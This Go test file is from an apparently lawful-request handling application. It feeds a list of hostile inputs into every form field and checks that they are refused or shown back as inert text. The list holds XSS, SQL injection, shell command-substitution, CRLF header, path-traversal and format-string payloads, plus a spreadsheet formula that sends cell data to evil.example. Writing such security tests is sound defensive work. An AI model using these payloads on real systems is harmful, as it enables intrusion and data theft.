package main

import (
	"fmt"
	"maps"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"testing"

	"lerd/internal/requests"
)

// hostile are texts that another program might run instead of reading them.
var hostile = map[string]string{
	"HTML":      `"><script>alert(1)</script><img src=x onerror=alert(2)>`,
	"SQL":       `x'); DROP TABLE request; --`,
	"formula":   `=HYPERLINK("http://evil.example?x="&A1,"open")`,
	"template":  `{{.Key}} ${7*7} {% raw %}`,
	"shell":     `$(touch /tmp/x) | ; & \`,
	"header":    "x\r\nSet-Cookie: a=b",
	"path":      `../../../../etc/passwd`,
	"unbounded": strings.Repeat("%s%n", 50),
}

// TestHostileTextInEveryField puts each of them into each field of the form: it
// is refused at the field or taken as the text that it is, and shown back as it
// was typed, never as markup.
func TestHostileTextInEveryField(t *testing.T) {
	d := newDesk(t)
	sound := d.withOrder()
	before := d.counts()
	for _, field := range slices.Sorted(maps.Keys(sound.answers)) {
		for _, kind := range []string{"HTML", "SQL"} { // the others all fields together
			page := d.send(d.at(sound.copy().set(field, hostile[kind]), stepOfAnswer(field)))
			if page.status != http.StatusOK && page.status != http.StatusUnprocessableEntity {
				t.Errorf("%s in %s: status %d", kind, field, page.status)
			}
			inert(t, page, kind+" in "+field)
		}
	}
	d.everyFieldAtOnce(t, sound)
	if diff := changed(without(before), without(d.counts())); len(diff) > 0 {
		t.Errorf("hostile texts changed %v", diff)
	}
}

func (d *desk) everyFieldAtOnce(t *testing.T, sound *application) {
	t.Helper()
	for kind, text := range hostile {
		a := sound.copy()
		for field := range sound.answers {
			a.set(field, text)
		}
		for _, step := range typedSteps {
			page := d.send(d.at(a, step))
			if page.status != http.StatusUnprocessableEntity {
				t.Errorf("%s everywhere at %s: status %d", kind, step, page.status)
			}
			inert(t, page, kind+" everywhere at "+step)
		}
		for _, at := range []string{"/check", "/kind", "/targets"} {
			page, err := d.officer.get(d.ctx, a.draft+at)
			d.must(err)
			inert(t, page, kind+" read at "+at)
		}
	}
}

// ownScripts are those that lerd's pages load.
var ownScripts = regexp.MustCompile(`<script src="/static/[A-Za-z0-9._/-]+" defer></script>`)

// inert fails the test when a page holds markup that is not lerd's own: scripts,
// handlers of events, elements that load from elsewhere.
func inert(t *testing.T, page *webPage, what string) {
	t.Helper()
	body := ownScripts.ReplaceAllString(string(page.body), "")
	for _, bad := range []string{"<script", "<img src=x", "onerror=alert(2)>"} {
		if strings.Contains(body, bad) {
			t.Errorf("%s: the page %s holds %s", what, page.url.Path, bad)
		}
	}
}

// TestHostileTextGoesTheWholeWay submits what may be said freely and looks at it
// as every role: everybody reads the text, nobody runs it, and the bundle that
// holds it verifies.
func TestHostileTextGoesTheWholeWay(t *testing.T) {
	d := newDesk(t)
	const text = `=1+1 "><script>alert(1)</script> O'Neill'); DROP TABLE request; --`
	f := d.withOrder().set("need", text, "offence_text", text, "further_data_description", text, "legal_basis", "BNSS 2023, s. 94 <b>&amp;</b>", "issuer_name", "O'Neill & Sons <i>Station</i>")
	id := d.submitted(f)
	d.readsAs(t, "asha.rao", "/requests/"+id, text)
	d.readsAs(t, "rita.lind", "/review/"+id, text)
	d.readsAs(t, "rita.lind", "/review", "")
	d.whileStopped(func() {
		d.review(requests.ID(id))
		d.jobs()
		d.confirm()
		d.jobs()
	})
	d.readsAs(t, "anna.keller", "/releases/"+id, "")
	d.readsAs(t, "ines.moreau", "/audit/cases/"+id, "")
	d.whileStopped(func() {
		d.must(d.cases.Approve(d.as("anna.keller"), requests.ID(id), d.load(requests.ID(id)).Release.Digest))
		d.jobs()
	})
	bundle, name, err := d.cases.Download(d.as("asha.rao"), requests.ID(id))
	d.must(err)
	file := t.TempDir() + "/" + name
	saveTo(t, file, bundle)
	d.verifyBundle(file)
	d.verifyLog()
}

// readsAs fetches a page as somebody and looks for a text as people read it.
func (d *desk) readsAs(t *testing.T, signIn, at, text string) {
	t.Helper()
	page, err := d.visit(signIn).get(d.ctx, at)
	d.must(err)
	inert(t, page, signIn)
	if !strings.Contains(textOf(page.root), text) {
		t.Errorf("%s does not find the text on %s", signIn, at)
	}
}

// TestAnUnknownIdentifierLeadsToNoData: a number that nobody has is a complete
// request; the answer says that there is nothing, and nothing is released.
func TestAnUnknownIdentifierLeadsToNoData(t *testing.T) {
	d := newDesk(t)
	id := requests.ID(d.submitted(d.withOrder().set(first0+"identifier", "+447700900555")))
	d.whileStopped(func() {
		d.review(id)
		d.jobs()
		d.clock.Advance(3 * requests.ExaminationTime) // its end tells nothing by its time
		d.jobs()
	})
	if got := d.state(id); got != requests.NoData {
		t.Fatalf("the case is %s", got)
	}
	page, err := d.visit("asha.rao").get(d.ctx, "/requests/"+string(id))
	d.must(err)
	if _, err := page.form("/bundle"); err == nil {
		t.Error("there is a bundle to download")
	}
	c := d.load(id)
	if c.Release != nil || len(c.Asks) != 0 {
		t.Errorf("a release %v, findings %v", c.Release, c.Asks)
	}
	if said := textOf(page.root); !strings.Contains(said, "We have nothing to hand over on this request.") {
		t.Errorf("the page does not say that there is nothing to hand over: %s", said)
	}
	if got := d.column(fmt.Sprintf("SELECT count(*)::text FROM release_record r JOIN release l ON l.id = r.release_id WHERE l.request_id = '%s'", id)); got[0] != "0" {
		t.Errorf("%s records", got[0])
	}
}
